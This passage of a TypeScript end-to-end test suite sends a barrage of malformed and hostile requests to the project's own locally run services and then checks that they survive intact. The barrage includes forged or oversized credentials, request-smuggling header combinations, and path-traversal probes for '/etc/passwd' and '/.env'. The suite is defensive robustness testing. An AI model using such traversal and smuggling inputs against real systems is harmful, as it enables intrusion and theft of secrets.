        `POST ${clip(path, 40)}`,
        () => ({ path, headers: jsonHeaders(t.ingest), body }),
        {
          statuses: [404],
          codes: ['NOT_FOUND'],
        },
      ),
    );
  }

  const basic = `Basic ${Buffer.from('admin:admin').toString('base64')}`;
  const authVariants = (): Array<string | string[] | undefined> => [
    undefined,
    '',
    bearer(rng.text(24)),
    basic,
    'Bearer',
    `Bearer ${rng.text(24)} extra`,
    `Token ${t.ingest}`,
    bearer(t.authz),
    bearer(t.admin),
    bearer('x'.repeat(8_000)),
    `bearer ${rng.text(24)}`,
    [bearer(rng.text(24)), bearer(t.ingest)],
    bearer(t.ingest.slice(0, -1)),
    `${bearer(t.ingest)}=`,
    'Bearer null',
    'Bearer undefined',
    `Negotiate ${rng.text(40)}`,
  ];
  for (let round = 0; round < 3; round++) {
    for (const auth of authVariants()) {
      const body = event();
      cases.push(
        httpCase(
          'http bad credentials',
          `authorization ${auth === undefined ? '(none)' : JSON.stringify(clip([auth].flat().join(' | '), 40))}`,
          () => ({
            headers: {
              'content-type': 'application/json',
              ...(auth === undefined ? {} : { authorization: auth }),
            },
            body,
          }),
          // Two authorization headers are conflicting credentials, whichever is valid.
          Array.isArray(auth)
            ? { statuses: [401], codes: ['CONFLICTING_CREDENTIALS'] }
            : { statuses: [401], codes: ['UNAUTHENTICATED'] },
        ),
      );
    }
  }

  for (let i = 0; i < 20; i++) {
    const source =
      i % 2 === 0
        ? Buffer.from(
            jsonText(toJson(validEvent(rng, `hostile-chunk-${i}`))).slice(0, -rng.int(1, 20)),
          )
        : rng.chance(0.5)
          ? rng.bytes(rng.int(10, 8_192))
          : Buffer.from(jsonText({ ...toJson(validEvent(rng, `hostile-chunk-${i}`)), action: 42 }));
    const chunks: Buffer[] = [];
    for (let at = 0; at < source.length;) {
      const size = rng.int(1, Math.max(1, Math.ceil(source.length / 4)));
      chunks.push(source.subarray(at, at + size));
      at += size;
    }
    cases.push(
      httpCase(
        'http chunked garbage',
        `${source.length} bytes in ${chunks.length} chunks #${i}`,
        () => ({ headers: jsonHeaders(t.ingest), chunks }),
        BAD_REQUEST,
      ),
    );
  }

  const auth = bearer(t.ingest);
  const empties: Array<[string, () => HttpRequestSpec | { raw: string }]> = [
    ['Content-Length 0', () => ({ headers: jsonHeaders(t.ingest), body: '' })],
    ['whitespace only', () => ({ headers: jsonHeaders(t.ingest), body: ' \r\n\t ' })],
    ['a NUL byte', () => ({ headers: jsonHeaders(t.ingest), body: Buffer.from([0]) })],
    ['BOM only', () => ({ headers: jsonHeaders(t.ingest), body: Buffer.from([0xef, 0xbb, 0xbf]) })],
    [
      'chunked, no chunks',
      () => ({
        raw: `POST /v1/events HTTP/1.1\r\nHost: x\r\nauthorization: ${auth}\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n`,
      }),
    ],
    [
      'no body and no length',
      () => ({
        raw: `POST /v1/events HTTP/1.1\r\nHost: x\r\nauthorization: ${auth}\r\ncontent-type: application/json\r\nconnection: close\r\n\r\n`,
      }),
    ],
  ];
  for (const [name, request] of empties)
    cases.push(httpCase('http empty body', name, request, BAD_REQUEST));

  const head = `POST /v1/events HTTP/1.1\r\nHost: x\r\nauthorization: ${auth}\r\ncontent-type: application/json\r\n`;
  const protocol: Array<[string, Buffer | string]> = [
    ['invalid chunk size', `${head}transfer-encoding: chunked\r\n\r\nzz\r\nabc\r\n0\r\n\r\n`],
    [
      'Content-Length and Transfer-Encoding together',
      `${head}content-length: 5\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n`,
    ],
    ['20 KB header', `${head}x-pad: ${'p'.repeat(20_000)}\r\ncontent-length: 2\r\n\r\n{}`],
    [
      '70 KB authorization header',
      `POST /v1/events HTTP/1.1\r\nHost: x\r\nauthorization: Bearer ${'x'.repeat(70_000)}\r\n\r\n`,
    ],
    ['NUL in a header value', `${head}x-bad: a\u0000b\r\ncontent-length: 2\r\n\r\n{}`],
    ['invalid header name', `${head}bad header: x\r\ncontent-length: 2\r\n\r\n{}`],
    ['garbage request line', 'GARBAGE\r\n\r\n'],
    ['unknown method', 'FOO /v1/events HTTP/1.1\r\nHost: x\r\n\r\n'],
    ['negative Content-Length', `${head}content-length: -1\r\n\r\n`],
    ['Content-Length overflow', `${head}content-length: 99999999999999999999\r\n\r\n`],
    [
      'TLS ClientHello',
      Buffer.from([0x16, 0x03, 0x01, 0x00, 0xa5, 0x01, 0x00, 0x00, 0xa1, 0x03, 0x03]),
    ],
    ['HTTP/2 prior-knowledge preface', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'],
  ];
  for (const [name, raw] of protocol) {
    cases.push(
      httpCase('http malformed protocol', name, () => ({ raw }), {
        statuses: [400, 431],
        bare: true,
      }),
    );
  }
  return cases;
}

/**
 * Every case in the order it is generated (its test's place in the list); the barrage sends them
 * in `rng.shuffle([...cases])` order, drawn from the same generator right after.
 */
function generateCases(rng: Rng, tokens: Tokens): HostileCase[] {
  return [
    ...grpcGarbageCases(rng, tokens),
    ...grpcIngestValueCases(rng, tokens),
    ...grpcRiskValueCases(rng, tokens),
    ...grpcHostileButValidCases(rng, tokens),
    ...grpcEchoCases(rng, tokens),
    ...grpcOversizeCases(rng, tokens),
    ...grpcUnknownMethodCases(rng, tokens),
    ...grpcAuthCases(rng, tokens),
    ...httpJsonCases(rng, tokens),
    ...httpUnicodeCases(rng, tokens),
    ...httpRequestShapeCases(rng, tokens),
    ...opsEndpointCases(rng),
    ...grpcDoorCases(rng, tokens, DOOR_KIT),
    ...httpDoorCases(rng, tokens, DOOR_KIT),
  ];
}

/** What the door cases of issue #11 (support/door-cases.ts) borrow from this file. */
const DOOR_KIT: DoorKit = {
  validEvent,
  encodeEvent,
  encodeBatch,
  encodeAuthorize,
  validAuthorize,
  encodeProfile,
  encodeRestrict,
  toJson,
  jsonText,
};

/**
 * The ops port of every service (/healthz, /readyz, /metrics) is reachable wherever Prometheus
 * and the kubelet are, and in Compose it is published: it must shrug off junk as the APIs do.
 */
function opsEndpointCases(rng: Rng): HttpCase[] {
  const cases: HttpCase[] = [];
  const NOT_FOUND: HttpExpect = { statuses: [404], codes: ['NOT_FOUND'] };
  const NOT_ALLOWED: HttpExpect = {
    statuses: [405],
    codes: ['METHOD_NOT_ALLOWED'],
    allow: 'GET, HEAD',
    // The answer comes from the headers; a big body may still be on its way when it does.
    transportErrors: ['EPIPE', 'ECONNRESET'],
  };
  const OK: HttpExpect = { statuses: [200] };
  const PARSER: HttpExpect = { statuses: [400, 431], bare: true };
  const get =
    (path: string, headers: Record<string, string> = {}) =>
    () => ({
      method: 'GET',
      path,
      headers,
    });
  for (const service of SERVICES) {
    const r = rng.fork();
    const add = (name: string, request: HttpCase['request'], expect: HttpExpect) =>
      cases.push({
        kind: 'http',
        category: 'ops endpoints',
        name: `${service}: ${name}`,
        ops: service,
        request,
        expect,
      });

    add('GET /metrics with a 4 KB query', get(`/metrics?${'q='.repeat(2_000)}`), OK);
    add('HEAD /healthz', () => ({ method: 'HEAD', path: '/healthz' }), OK);
    add('GET /readyz with odd headers', get('/readyz', { accept: '*/*;q=abc', 'x-a': '\t' }), OK);
    for (const path of [
      '/',
      '/metrics/',
      '//healthz',
      '/healthz/../metrics',
      '/%2e%2e/%2e%2e/etc/passwd',
      '/readyz%00',
      `/${'a'.repeat(8_000)}`,
      '/debug/pprof',
      '/.env',
    ]) {
      add(`GET ${path.slice(0, 40)}`, get(path), NOT_FOUND);
    }
    for (let i = 0; i < 4; i++) {
      const path = `/${Array.from({ length: r.int(1, 40) }, () => r.pick(['a', '%ff', '%c0%af', '~', '.', '%20', '%25'])).join('')}`;
      add(`GET random path #${i}`, get(path), NOT_FOUND);
    }
    for (const method of ['POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS']) {
      add(
        `${method} /metrics`,
        () => ({ method, path: '/metrics', body: r.bytes(r.int(1, 2_048)) }),
        NOT_ALLOWED,
      );
    }
    add(
      'POST /readyz with 2 MiB',
      () => ({ method: 'POST', path: '/readyz', body: Buffer.alloc(2 * 1024 * 1024, 0x41) }),
      NOT_ALLOWED,
    );
    add(
      '20 KB header',
      () => ({ raw: `GET /metrics HTTP/1.1\r\nHost: x\r\nx-pad: ${'p'.repeat(20_000)}\r\n\r\n` }),
      PARSER,
    );
    add('garbage request line', () => ({ raw: 'GARBAGE\r\n\r\n' }), PARSER);
    add('random bytes', () => ({ raw: r.bytes(r.int(16, 512)) }), {
      ...PARSER,
      transportErrors: ['CLOSED_WITHOUT_RESPONSE', 'ECONNRESET'],
    });
  }
  return cases;
}

/** The canonical form of a value as @vigil/input defines it, or the value when it is refused. */
const canonical = (parse: (v: unknown) => { ok: boolean; value?: string }, value: string) => {
  const parsed = parse(value);
  return parsed.ok ? (parsed.value as string) : value;
};

/**
 * What must survive storage unchanged, in a comparable form: exactly what was sent, in its
 * canonical form (a user id is stored case-folded, an action lower-cased: @vigil/input).
 */
function essence(e: EventInput): string {
  const attributes = Object.entries(e.attributes ?? {}).sort(([a], [b]) =>
    a < b ? -1 : a > b ? 1 : 0,
  );
  return JSON.stringify({
    eventId: e.eventId ?? '',
    tenantId: e.tenantId ?? '',
    userId: canonical(parseUserId, e.actor?.userId ?? ''),
    userAgent: e.actor?.userAgent ?? '',
    action: canonical(parseAction, e.action ?? ''),
    resource: e.resource ?? '',
    attributes,
  });
}

// ---- the test -------------------------------------------------------------------------------

/**
 * What is checked once the barrage is over, one test each, so that a failure names what broke.
 * Every finding is collected first (one check failing must not hide the others), then asserted.
 */
const AFTERMATH = {
  alive: 'every process is still alive, healthy and ready',
  serving: 'a valid Publish and a valid Authorize still succeed',
  drained: "ingest's in-flight work and the risk decision log drain",
  descriptors: `open descriptors return to within ${MAX_FD_GROWTH} of the baseline`,
  memory: `RSS grows by at most ${MAX_RSS_GROWTH_BYTES / 2 ** 20} MiB per service`,
  events: `${EVENTS_TOPIC} grew by exactly the events acknowledged to callers`,
  admin: `${ADMIN_TOPIC} grew by exactly the admin actions acknowledged to callers`,
  crashes: 'no service logged a crash',
} as const;
type Check = keyof typeof AFTERMATH;
type Findings = Record<Check, string[]>;

interface Clients {
  ingest: ReturnType<E2EStack['ingestClient']>;
  authz: ReturnType<E2EStack['authzClient']>;
  admin: ReturnType<E2EStack['adminClient']>;
}

/** What the barrage leaves behind for the tests and the aftermath. */
interface Barrage {
  results: Map<HostileCase, CaseResult>;
  /** Each service's /metrics before the barrage. */
  metricsBefore: Map<ServiceName, string>;
  offsetsBefore: Map<number, number>;
  adminOffsetsBefore: Map<number, number>;
}

/** Cases grouped by category (sorted, as in the summary), each titled for its test. */
function byCategory(cases: readonly HostileCase[]): Array<[string, Array<[string, HostileCase]>]> {
  const groups = new Map<string, Array<[string, HostileCase]>>();
  const seen = new Map<string, number>();
  for (const c of cases) {
    // A name may repeat within a category (the same credential in two rounds): number repeats
    // so that every test title points at one request.
    const key = `${c.category}\u0000${c.name}`;
    const n = (seen.get(key) ?? 0) + 1;
    seen.set(key, n);
    const group = groups.get(c.category) ?? [];
    groups.set(c.category, group);
    group.push([n === 1 ? c.name : `${c.name} (${n})`, c]);
  }
  return [...groups].sort(([a], [b]) => a.localeCompare(b));
}

/**
 * Warms the stack up, takes the baselines, builds the cases (`build`: in the order they are to be
 * sent) and sends them, CONCURRENCY at a time, all categories shuffled together: a real client
 * mix, and the load the aftermath checks are about.
 */
async function runBarrage(
  stack: E2EStack,
  clients: Clients,
  build: () => readonly HostileCase[],
  findings: Findings,
): Promise<Barrage> {
  const ops = (name: ServiceName) => stack.instance(name).ports.ops as number;
  const kafka = stack.kafka.kafka();
  // Warm up (and prove the stack works) before taking the baselines.
  const warm = await clients.ingest.publish({
    eventId: `hostile-warmup-${SEED}`,
    occurredAt: timestampFromMillis(Date.now()),
    actor: { userId: 'hostile-warmup' },
    action: 'auth.login',
  });
  expect(warm.topic).toBe(EVENTS_TOPIC);
  expect(
    (
      await clients.authz.authorize({
        userId: 'hostile-warmup',
        action: 'auth.login',
        resource: 'app/console',
      })
    ).decisionId,
  ).not.toBe('');
  await clients.admin.getRiskProfile('hostile-warmup');

  const metricsBefore = new Map<ServiceName, string>();
  for (const name of SERVICES) {
    metricsBefore.set(name, await scrapeOrNote(ops(name), name, findings.memory));
  }
  const offsetsBefore = await topicHighWatermarks(kafka, EVENTS_TOPIC);
  const adminOffsetsBefore = await topicHighWatermarks(kafka, ADMIN_TOPIC);

  const cases = build();
  const insecure = grpc.credentials.createInsecure();
  const grpcAddress: Record<Service, string> = {
    ingest: `127.0.0.1:${stack.instance('ingest').ports.grpc}`,
    risk: `127.0.0.1:${stack.instance('risk').ports.grpc}`,
  };
  const targets: Targets = {
    grpcAddress,
    clients: {
      ingest: new grpc.Client(grpcAddress.ingest, insecure),
      risk: new grpc.Client(grpcAddress.risk, insecure),
    },
    httpPort: stack.instance('ingest').ports.http as number,
    opsPorts: { ingest: ops('ingest'), risk: ops('risk'), sealer: ops('sealer') },
  };
  const started = Date.now();
  let results: CaseResult[];
  try {
    results = await runPool(cases, CONCURRENCY, (c) => runCase(c, targets));
  } finally {
    targets.clients.ingest.close();
    targets.clients.risk.close();
  }
  const seconds = (Date.now() - started) / 1000;
  console.log(summarize(results, SEED, seconds));
  return {
    results: new Map(cases.map((c, i) => [c, results[i] as CaseResult])),
    metricsBefore,
    offsetsBefore,
    adminOffsetsBefore,
  };
}

/** A service's /metrics text, or '' with a note in `failures` when it cannot be had. */
function scrapeOrNote(opsPort: number, name: ServiceName, failures: string[]): Promise<string> {
  return scrapeMetrics(opsPort).catch((err: Error) => {
    failures.push(`${name} /metrics failed: ${err.message}`);
    return '';
  });
}

/**
 * After the barrage: every process alive, healthy and still serving; nothing held on to; the
 * topics holding exactly what callers were told; no crash in the logs. Collects findings per
 * check; returns the events stored in access-events by event id, for the per-case content checks.
 */
async function inspectAftermath(
  stack: E2EStack,
  clients: Clients,
  barrage: Barrage,
  findings: Findings,
): Promise<Map<string, vigil.v1.AccessEvent>> {
  const ops = (name: ServiceName) => stack.instance(name).ports.ops as number;
  const kafka = stack.kafka.kafka();
  const results = [...barrage.results.values()];

  // Every process alive, healthy and still serving real requests.
  for (const name of SERVICES) {
    const { child } = stack.instance(name);
    if (child.exitCode !== null || child.signalCode !== null) {
      findings.alive.push(
        `${name} exited (${child.exitCode ?? child.signalCode}) during the barrage`,
      );
      continue;
    }
    for (const probe of ['healthz', 'readyz']) {
      const res = await fetch(`http://127.0.0.1:${ops(name)}/${probe}`).catch(() => undefined);
      if (res?.status !== 200)
        findings.alive.push(`${name} /${probe} answered ${res?.status ?? 'nothing'}`);
    }
  }
  const finalId = `hostile-final-${SEED}`;
  try {
    const receipt = await clients.ingest.publish({
      eventId: finalId,
      occurredAt: timestampFromMillis(Date.now()),
      actor: { userId: 'hostile-final', ip: '203.0.113.7' },
      action: 'auth.login',
      resource: 'app/console',
      outcome: vigil.v1.Outcome.OUTCOME_SUCCESS,
    });
    if (receipt.eventId !== finalId || receipt.duplicate)
      findings.serving.push(`final Publish: odd receipt ${JSON.stringify(receipt)}`);
  } catch (err) {
    findings.serving.push(`a valid Publish after the barrage failed: ${(err as Error).message}`);
  }
  try {
    const decision = await clients.authz.authorize({
      userId: 'hostile-final',
      action: 'db.query',
      resource: 'app/console',
    });
    if (!decision.decisionId)
      findings.serving.push('a valid Authorize after the barrage returned no decision id');
  } catch (err) {
    findings.serving.push(`a valid Authorize after the barrage failed: ${(err as Error).message}`);
  }

  // Nothing held on to: in-flight work drains, decisions reach Kafka, descriptors are returned.
  const settle = async (
    failures: string[],
    what: string,
    check: () => Promise<boolean>,
    timeoutMs = 30_000,
  ) => {
    try {
      await waitFor(what, check, timeoutMs, 250);
    } catch (err) {
      failures.push((err as Error).message);
    }
  };
  await settle(findings.drained, 'ingest in-flight events and bytes to return to 0', async () => {
    const text = await scrapeMetrics(ops('ingest'));
    return (
      metricValue(text, 'vigil_ingest_in_flight_events') === 0 &&
      metricValue(text, 'vigil_ingest_in_flight_bytes') === 0
    );
  });
  await settle(
    findings.drained,
    'the risk decision log to drain (vigil_risk_decision_buffer_depth 0)',
    async () => {
      const text = await scrapeMetrics(ops('risk'));
      return metricValue(text, 'vigil_risk_decision_buffer_depth') === 0;
    },
  );
  const before = barrage.metricsBefore;
  const after = new Map<ServiceName, string>();
  for (const name of SERVICES) {
    const fdsBefore = metricValue(before.get(name) ?? '', 'process_open_fds') ?? 0;
    await settle(
      findings.descriptors,
      `${name} open descriptors to return near ${fdsBefore} (+${MAX_FD_GROWTH})`,
      async () => {
        const text = await scrapeMetrics(ops(name));
        after.set(name, text);
        return (metricValue(text, 'process_open_fds') ?? Infinity) <= fdsBefore + MAX_FD_GROWTH;
      },
    );
  }
  const scrape = (name: ServiceName) => scrapeOrNote(ops(name), name, findings.memory);
  const memory: string[] = [];
  for (const name of SERVICES) {
    const rssBefore = metricValue(before.get(name) ?? '', 'process_resident_memory_bytes') ?? 0;
    const rssAfter =
      metricValue(after.get(name) ?? (await scrape(name)), 'process_resident_memory_bytes') ?? 0;
    const fds = `${metricValue(before.get(name) ?? '', 'process_open_fds')} -> ${metricValue(after.get(name) ?? '', 'process_open_fds')}`;
    memory.push(
      `${name}: RSS ${(rssBefore / 2 ** 20).toFixed(0)} -> ${(rssAfter / 2 ** 20).toFixed(0)} MiB, fds ${fds}`,
    );
    if (rssAfter - rssBefore > MAX_RSS_GROWTH_BYTES) {
      findings.memory.push(
        `${name} RSS grew by ${((rssAfter - rssBefore) / 2 ** 20).toFixed(0)} MiB (limit ${MAX_RSS_GROWTH_BYTES / 2 ** 20})`,
      );
    }
  }
  const riskMetrics = await scrape('risk');
  const ingestMetrics = await scrape('ingest');
  memory.push(
    `risk decision log: depth ${metricValue(riskMetrics, 'vigil_risk_decision_buffer_depth')}, ` +
      `publish failures ${metricValue(riskMetrics, 'vigil_risk_decision_publish_failures_total')}; ` +
      `ingest requests the service itself classified INTERNAL: ${metricValue(ingestMetrics, 'vigil_ingest_requests_total', 'code="INTERNAL"') ?? 0}`,
  );
  console.log(`after the barrage:\n  ${memory.join('\n  ')}`);

  // access-events holds exactly the events callers were told were stored, and risk-admin exactly
  // the admin actions they were told were recorded. A read-back that cannot finish is a finding.
  const acknowledged = new Set([finalId, ...results.flatMap((r) => r.storedEventIds)]);
  let stored = new Map<string, vigil.v1.AccessEvent>();
  try {
    stored = await checkTopicHoldsExactly(
      kafka,
      EVENTS_TOPIC,
      barrage.offsetsBefore,
      acknowledged,
      findings.events,
    );
  } catch (err) {
    findings.events.push(`reading ${EVENTS_TOPIC} back failed: ${(err as Error).message}`);
  }
  try {
    await checkTopicHoldsExactly(
      kafka,
      ADMIN_TOPIC,
      barrage.adminOffsetsBefore,
      new Set(results.flatMap((r) => r.adminEventIds)),
      findings.admin,
    );
  } catch (err) {
    findings.admin.push(`reading ${ADMIN_TOPIC} back failed: ${(err as Error).message}`);
  }

  // No crash traces in the logs.
  for (const name of SERVICES) {
    const log = stack.instance(name).logFile;
    const text = fs.readFileSync(log, 'utf8');
    const fatal = text
      .split('\n')
      .filter((line) => /"level":"fatal"|\bfatal:|Uncaught|UnhandledPromiseRejection/.test(line));
    if (fatal.length > 0)
      findings.crashes.push(`${name} logged a crash: ${clip(fatal[0] as string, 300)}`);
  }
  return stored;
}

describe('hostile input against the running services', () => {
  const stack = new E2EStack({ kafka: 19192, kafkaController: 19193, redis: 16479 });
  // The tokens are the stack's, drawn when it was constructed: the cases can be built now.
  const tokens: Tokens = {
    ingest: stack.ingestToken,
    authz: stack.authzToken,
    admin: stack.adminToken,
  };
  // Built now to give every case a test of its own; what is sent is built again (buildSendOrder).
  const generated = generateCases(new Rng(SEED), tokens);
  const selected = (c: HostileCase) => !ONLY || ONLY.test(`${c.category} ${c.name}`);
  const cases = generated.filter(selected);
  /** The case built for sending, by the case its test was named after. */
  const freshOf = new Map<HostileCase, HostileCase>();
  /**
   * The cases to send, in send order, built again from the seed just before they are sent, as
   * they always were: events carry timestamps relative to now, some close to the hour in the
   * past that ingest accepts, and the stack takes a while to start. Same seed, same cases.
   */
  const buildSendOrder = (): HostileCase[] => {
    const rng = new Rng(SEED);
    const fresh = generateCases(rng, tokens);
    fresh.forEach((c, i) => {
      const named = generated[i];
      if (!named || named.category !== c.category || named.name !== c.name) {
        throw new Error(
          `case ${i} came out as "${c.category} ${c.name}" the second time: the generators ` +
            'must depend on the seed alone',
        );
      }
      freshOf.set(named, c);
    });
    // Shuffled before filtering, so that HOSTILE_ONLY replays its cases in the order of a full run.
    return rng.shuffle([...fresh]).filter(selected);
  };
  const findings = Object.fromEntries(
    Object.keys(AFTERMATH).map((check) => [check, [] as string[]]),
  ) as Findings;
  let clients: Clients | undefined;
  let started = false;
  let barrage: Barrage | undefined;
  let stored = new Map<string, vigil.v1.AccessEvent>();
  // The service logs are kept unless every test passed; a test that never ran did not pass.
  const tally = { declared: 0, passed: 0 };
  const counted = <A extends unknown[]>(tests: number, body: (...args: A) => void) => {
    tally.declared += tests;
    return (...args: A) => {
      body(...args);
      tally.passed += 1;
    };
  };
  const sent = (c: HostileCase): CaseResult => {
    const fresh = freshOf.get(c);
    const result = fresh && barrage?.results.get(fresh);
    if (!result) throw new Error('not sent: the barrage did not run (see the first failure)');
    return result;
  };

  beforeAll(async () => {
    await stack.startInfrastructure();
    await stack.start('ingest');
    await stack.start('risk');
    await stack.start('sealer');
    started = true;
  }, 240_000);

  beforeAll(async () => {
    // jest runs the next hook even when one fails; without a stack there is nothing to send to.
    if (!started) throw new Error('the stack did not start');
    clients = {
      ingest: stack.ingestClient(),
      authz: stack.authzClient(),
      admin: stack.adminClient(),
    };
    barrage = await runBarrage(stack, clients, buildSendOrder, findings);
  }, 240_000);

  beforeAll(async () => {
    if (!barrage || !clients) throw new Error('the barrage did not run');
    stored = await inspectAftermath(stack, clients, barrage, findings);
  }, 240_000);

  afterAll(async () => {
    clients?.ingest.close();
    clients?.authz.close();
    clients?.admin.close();
    const passed = tally.passed === tally.declared;
    await stack.destroy(!passed);
    if (!passed) console.log(`hostile-input: service logs kept in ${stack.dir}`);
  }, 120_000);

  if (!ONLY) {
    it(
      `sends at least ${MIN_REQUESTS.toLocaleString('en-US')} hostile requests`,
      counted(1, () => {
        expect(cases.length).toBeGreaterThanOrEqual(MIN_REQUESTS);
      }),
    );
  }

  // One test per request: a clean answer (see the file comment), and for hostile but valid
  // events that were stored, the record read back holds exactly what was sent.
  describe.each(byCategory(cases))('%s', (_category, titled) => {
    it.each(titled)(
      '%s',
      counted(titled.length, (_title: string, c: HostileCase) => {
        const r = sent(c);
        expect(r.problem).toBeUndefined();
        if (!r.verify || !r.accepted) return;
        const record = stored.get(r.verify.eventId ?? '');
        // Not found is the events check's finding (acknowledged but not stored).
        if (!record) return;
        expect({ stored: essence(record), source: record.source }).toEqual({
          stored: essence(r.verify),
          source: INGEST_SOURCE,
        });
      }),
    );
  });

  describe('after the barrage', () => {
    const checks = Object.entries(AFTERMATH).map(([check, says]): [string, Check] => [
      says,
      check as Check,
    ]);
    it.each(checks)(
      '%s',
      counted(checks.length, (_says: string, check: Check) => {
        expect(findings[check]).toEqual([]);
      }),
    );
  });
});
